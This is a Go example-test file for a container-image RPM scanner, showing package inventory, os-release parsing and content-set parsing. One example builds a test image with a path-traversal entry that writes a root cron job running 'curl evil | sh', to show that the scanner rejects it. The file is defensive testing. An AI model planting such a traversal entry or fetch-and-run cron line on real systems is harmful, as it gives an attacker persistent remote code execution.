package rpmscan_test

import (
	"context"
	"errors"
	"fmt"
	"log"
	"os"

	"github.com/google/go-containerregistry/pkg/crane"

	"github.com/openabs/abs/rpmscan"
	_ "github.com/openabs/abs/rpmscan/sqlitedriver" // read sqlite rpmdbs (RHEL 9, Fedora)
)

// Scan a one-layer image built in memory from the repository's fixture
// rpmdb. In a program the image usually comes from a registry, through
// go-containerregistry's remote.Image.
func ExampleLayerScanner_Scan() {
	db, err := os.ReadFile("testdata/rpmdb/sqlite/rpmdb.sqlite")
	if err != nil {
		log.Fatal(err)
	}
	img, err := crane.Image(map[string][]byte{
		"etc/os-release":           []byte("ID=\"rhel\"\nVERSION_ID=\"9.3\"\n"),
		"var/lib/rpm/rpmdb.sqlite": db,
	})
	if err != nil {
		log.Fatal(err)
	}

	inv, err := rpmscan.New().Scan(context.Background(), img)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(inv.OS.ID, inv.OS.VersionID, inv.RPMDB.Backend)
	for _, p := range inv.Packages {
		if m := p.ModuleStream(); m != "" {
			fmt.Println(p.NEVRA(), "module", m)
			continue
		}
		fmt.Println(p.NEVRA())
	}
	// Output:
	// rhel 9.3 sqlite
	// bash-0:5.1.8-6.el9_1.x86_64
	// glibc-0:2.34-60.el9.x86_64
	// glibc-common-0:2.34-60.el9.x86_64
	// nodejs-1:18.14.2-2.module+el9.1.0+18118+5b5a9a6b.x86_64 module nodejs:18
	// openssl-1:3.0.7-24.el9.x86_64
	// openssl-libs-1:3.0.7-24.el9.x86_64
	// tzdata-0:2023c-1.el9.noarch
}

// Hostile images fail with typed errors that say which layer and entry.
func ExampleLayerScanner_Scan_hostile() {
	img, err := crane.Image(map[string][]byte{
		"../../etc/cron.d/pwned": []byte("* * * * * root sh -c 'curl evil | sh'"),
	})
	if err != nil {
		log.Fatal(err)
	}
	_, err = rpmscan.New().Scan(context.Background(), img)
	var le *rpmscan.LayerError
	fmt.Println(errors.Is(err, rpmscan.ErrUnsafePath), errors.As(err, &le) && le.Path == "../../etc/cron.d/pwned")
	// Output:
	// true true
}

func ExampleParseOSRelease() {
	vars := rpmscan.ParseOSRelease([]byte(`NAME="Red Hat Enterprise Linux"
ID="rhel"
VERSION_ID="8.9"
PRETTY_NAME="Red Hat Enterprise Linux 8.9 (Ootpa)"
`))
	fmt.Println(vars["ID"], vars["VERSION_ID"])
	fmt.Println(vars["PRETTY_NAME"])
	// Output:
	// rhel 8.9
	// Red Hat Enterprise Linux 8.9 (Ootpa)
}

func ExampleParseContentSets() {
	sets, err := rpmscan.ParseContentSets([]byte(`{
  "metadata": {"icm_version": 1, "image_layer_index": 1},
  "content_sets": ["rhel-8-for-x86_64-baseos-rpms", "rhel-8-for-x86_64-appstream-rpms"],
  "image_contents": []
}`))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(sets)
	// Output:
	// [rhel-8-for-x86_64-baseos-rpms rhel-8-for-x86_64-appstream-rpms]
}
